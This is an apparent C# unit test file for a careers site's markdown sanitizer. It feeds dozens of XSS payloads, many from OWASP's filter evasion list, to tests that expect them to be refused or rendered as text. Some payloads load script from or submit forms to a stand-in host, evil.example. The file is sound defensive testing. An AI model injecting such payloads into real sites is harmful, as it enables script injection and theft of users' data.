using HealthInformaticsCareers.Content.Model.Facts;

namespace HealthInformaticsCareers.Tests.Content;

/// <summary>Raw HTML, much of it from OWASP's filter evasion list. § marks where it must be refused; a line without § is harmless text.</summary>
public sealed class C01_body_with_raw_HTML
{
    [Theory]
    [InlineData("§<script>alert(1)</script>")]
    [InlineData("Text §<script>alert(1)</script>")]
    [InlineData("Text\n§<script>alert(1)</script>")]
    [InlineData("§<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("§<script\n>alert(1)</script>")]
    [InlineData("§<script")]
    [InlineData("<§<script>alert(1);//<</script>")]
    [InlineData("<scr§<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<IMG \"\"\">§<SCRIPT>alert(1)</SCRIPT>\">")]
    [InlineData("\">§<script>alert(1)</script>")]
    [InlineData("\u00A0§<script>alert(1)</script>")]
    [InlineData("> §<script>alert(1)</script>")]
    [InlineData("- §<script>alert(1)</script>")]
    [InlineData("1. Text §<b>bold</b>")]
    [InlineData("## Heading §<b>bold</b>\n\nText")]
    [InlineData("**§<u>underlined</u>**")]
    [InlineData("[§<img src=x onerror=alert(1)>](/)")]
    [InlineData("![§<b>bold</b>](/images/a.png)")]
    [InlineData("§<img src=x onerror=alert(1)>")]
    [InlineData("Text §<img src=\"x\" onerror=\"alert(1)\"/>")]
    [InlineData("§<svg onload=alert(1)>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("§<iframe src=javascript:alert(1)></iframe>")]
    [InlineData("§<object data=x></object>")]
    [InlineData("§<embed src=x>")]
    [InlineData("§<details open ontoggle=alert(1)>\n\nText\n\n</details>")]
    [InlineData("§<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("§<b>bold</b>")]
    [InlineData("Text §<br> text")]
    [InlineData("Text§<br/>")]
    [InlineData("Text §</p> text")]
    [InlineData("§</p>")]
    [InlineData("§<style>@import 'x'</style>")]
    [InlineData("§<link rel=stylesheet href=x>")]
    [InlineData("§<meta http-equiv=refresh content=0>")]
    [InlineData("§<base href=//evil.example/>")]
    [InlineData("§<form action=//evil.example><input name=x></form>")]
    [InlineData("§<input onfocus=alert(1) autofocus>")]
    [InlineData("§<textarea>\n</textarea>")]
    [InlineData("§<button formaction=javascript:alert(1)>x</button>")]
    [InlineData("§<video onerror=alert(1)>x</video>")]
    [InlineData("§<marquee onstart=alert(1)>x</marquee>")]
    [InlineData("§<custom-element>x</custom-element>")]
    [InlineData("§<!-- comment -->")]
    [InlineData("Text §<!-- comment -->")]
    [InlineData("§<!-->")]
    [InlineData("§<?php echo 1 ?>")]
    [InlineData("§<!DOCTYPE html>")]
    [InlineData("§<![CDATA[x]]>")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("&#60;script&#62;alert(1)&#x3C;/script&#x3E;")]
    [InlineData("\\<script>alert(1)\\</script>")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("```\n<script>alert(1)</script>\n```")]
    [InlineData("    <script>alert(1)</script>")]
    [InlineData("```<script>\nx\n```")]
    [InlineData("```\"onclick=alert(1)\nx\n```")]
    [InlineData("[x](/ \"<script>alert(1)</script>\")")]
    [InlineData("[x](/ '\"onclick=alert(1) x=\"')")]
    [InlineData("![\"onerror=alert(1) x=\"](/images/a.png)")]
    [InlineData("Text\n\n[x]: <script>")]
    [InlineData("a < b > c, <1> and x <y")]
    public void Tag_is_refused_with_its_position_and_other_text_stays_text(string body) =>
        HostileContent.MustBeRefusedWhereMarked("HIC3001", HostileContent.WithBody(body));
}

public sealed class C03_body_with_generic_attributes
{
    [Theory]
    [InlineData("Text {onclick=alert(1)}")]
    [InlineData("{onclick=alert(1)}\nText")]
    [InlineData("Text {style=position:fixed onclick=alert(1)}")]
    [InlineData("## Heading {#x onclick=alert(1)}\n\nText")]
    [InlineData("Heading {onclick=alert(1)}\n---\n\nText")]
    [InlineData("[x](/){onclick=alert(1)}")]
    [InlineData("![x](/images/a.png){onerror=alert(1) onclick=alert(1)}")]
    [InlineData("*x*{onclick=alert(1)}")]
    [InlineData("`x`{onclick=alert(1)}")]
    [InlineData("- x {onclick=alert(1)}")]
    [InlineData("> x {onclick=alert(1)}")]
    [InlineData("```js {onclick=alert(1)}\nonclick\n```")]
    [InlineData("::: warning {onclick=alert(1)}\nText\n:::")]
    [InlineData("| a | b | {onclick=alert(1)} |\n|---|---|---|\n| c | d | e |")]
    [InlineData("{: onclick=alert(1)}\nText")]
    public void Braces_are_text(string body)
    {
        Assert.Contains("onclick", HostileContent.MustBeHarmless(HostileContent.WithBody(body)), StringComparison.Ordinal);
    }

    [Fact]
    public void Braces_after_a_code_fence_only_name_the_language()
    {
        Assert.Equal("<pre><code class=\"language-{onclick=alert(1)}\">x\n</code></pre>\n", HostileContent.MustBeHarmless(HostileContent.WithBody("```{onclick=alert(1)}\nx\n```")));
    }
}
